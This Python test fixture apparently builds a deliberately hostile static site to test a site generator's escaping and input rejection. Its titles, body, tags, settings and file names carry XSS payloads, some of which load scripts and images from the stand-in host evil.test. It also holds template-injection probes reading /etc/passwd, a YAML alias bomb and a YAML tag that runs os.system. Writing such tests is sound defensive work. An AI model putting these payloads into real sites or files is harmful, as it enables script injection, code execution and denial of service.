"""A site of which every field is hostile: markup, scripts, template syntax, marks of direction, huge fields.

Whatever runs says so: it calls ``alert``, which a browser tells, or asks ``evil.test``, which a test sees. A template
that would evaluate its input would write ``EVALUATED``.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from tests.site.folder import SiteFolder

EVALUATED = "36863"
MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=//evil.test/x onerror=alert(2)>',
    "'><svg/onload=alert(3)>",
    "</title></script><script src=//evil.test/s.js></script>",
    "]]><html xmlns='http://www.w3.org/1999/xhtml'><script>alert(4)</script>",
    "--><iframe srcdoc='<script>alert(5)</script>'></iframe>",
    "&lt;script&gt;alert(6)&lt;/script&gt; &#60;b&#62;",
    "{{ 191*193 }} {% include '/etc/passwd' %} ${191*193} #{191*193}",
    "<base href=//evil.test/><meta http-equiv=refresh content='0;url=//evil.test/'>",
    "[x](javascript:alert(7)) ![x](//evil.test/i.png) <javascript:alert(8)>",
    "\u202e\u2066gnp.exe\u2069\u202c reversed \u200f\u200b",
    "__proto__ constructor toString",
)
"""One title each."""

BODY = r"""
Flocks of sheep <script>alert(10)</script> and <img src=//evil.test/b onerror=alert(11)> in the abstract. {{ 191*193 }}
[link](javascript:alert(12)) [data](data:text/html,<script>alert(13)</script>) [vb](vbscript:x)
[x]( java&#10;script:alert(14))
![picture](//evil.test/p.png) ![other](https://evil.test/q.png "onerror=alert(15)")
<https://evil.test/"onmouseover=alert(16)>
[title](https://example.org "><script>alert(17)</script>") $\href{javascript:alert(18)}{x}$ $\style{a}{<img src=x>}$

## Notes <script>alert(19)</script>

<details open ontoggle=alert(20)><summary>x</summary></details>

```"><script>alert(21)</script>
<script>alert(22)</script>
```

```html onload=alert(23)
<img src=//evil.test/c onerror=alert(24)>
```

| <script>alert(25)</script> | b |
| :-: | --: |
| <img src=x onerror=alert(26)> | $$\unicode{<script>alert(27)</script>}$$ |

Footnote[^"><img src=x onerror=alert(28)>] and[^1].

[^"><img src=x onerror=alert(28)>]: <b>note</b> [x](javascript:alert(29))
[^1]: //evil.test/

[ref]: javascript:alert(30) "x"
[ref]
"""

TAGS = """\
method:
  - slug: sheep
    name: "<img src=//evil.test/t onerror=alert(40)>{{ 191*193 }}"
    about: "</script><script>alert(41)</script>"
    sure: sheep, flock*
  - slug: __proto__
    name: not a slug
  - slug: "../../up"
    name: not a slug
  - slug: constructor
    name: "</title><script>alert(42)</script>"
    sure: script
"""
SETTINGS = """\
title = "</title><script>alert(50)</script>{{ 191*193 }}"
description = "\\"><img src=//evil.test/d onerror=alert(51)>"
author = "</name><script>alert(52)</script>"
subscribe_form = "https://example.org/\\"onclick=alert(53)//"
"""
ABOUT = "# <script>alert(54)</script>\n\n<img src=//evil.test/a onerror=alert(55)> [x](javascript:alert(56))\n"
HUGE = "sheep " * 40_000


def make_hostile(site: SiteFolder) -> None:
    """Fill a site's folder."""
    site.write("digest.toml", SETTINGS)
    site.write("content/tags.yml", TAGS)
    site.write("content/about.md", ABOUT)
    for number, title in enumerate(MARKUP):
        site.write(f"content/papers/2025-09/by-hand-{number}.md", _paper(title, number))
    site.write("content/papers/2025-09/huge.md", f"---\ntitle: {'Huge ' * 390}\ndate: 2025-09-03\n---\n\n{HUGE}\n")
    site.write("content/dumps/<img src=x onerror=alert(60)>.txt", _dump(MARKUP))
    site.write("content/dumps/{{ 191*193 }} \u202etxt.txt", _dump([f"Second {title}" for title in MARKUP]))
    for name, text in BROKEN.items():
        site.write(f"content/papers/2025-09/{name}", text)


def _paper(title: str, number: int) -> str:
    fields = {
        "title": title,
        "authors": [title, "Ada </script>"],
        "add_tags": ["sheep", title],
        "arxiv": f"2509.{number:05}",
        "doi": "10.1000/<script>alert(70)</script>",
        "links": {title: "https://example.org/'onclick=alert(71)", "code": "javascript:alert(72)"},
        "was": ["../../../up", "<script>", f"old-{number}"],
        "categories": [title],
    }
    lines = [f"{key}: {json.dumps(value)}" for key, value in fields.items()]
    return "\n".join(["---", f"date: 2025-09-0{1 + number % 2}", *lines, "---", BODY])


def _dump(titles: list[str] | tuple[str, ...]) -> str:
    entries = "".join(
        f"{title}\n\nWe count sheep in flocks with {title} and report a result of 8times. \x07\x1b[31m\x9b\n\n"
        for title in titles
    )
    return f"Daily Papers\n\nSep 2, 2025\n\n{entries}"


BROKEN = {
    "bomb.md": "---\na: &a [x, x, x]\nb: &b [*a, *a, *a]\ntitle: [*b, *b]\ndate: 2025-09-01\n---\n\nBomb.\n",
    "python.md": '---\ntitle: !!python/object/apply:os.system ["touch owned"]\ndate: 2025-09-01\n---\n\nTagged.\n',
    "control.md": '---\ntitle: "a\x00b"\ndate: 2025-09-01\n---\n\nControl.\n',
    "deep.md": f"---\ntitle: {'[' * 5000}\ndate: 2025-09-01\n---\n\nDeep.\n",
    "long.md": f'---\ntitle: "{"x" * 100_000}"\ndate: 2025-09-01\n---\n\nLong.\n',
}
"""Paper files that must be refused, each with a message that names it."""
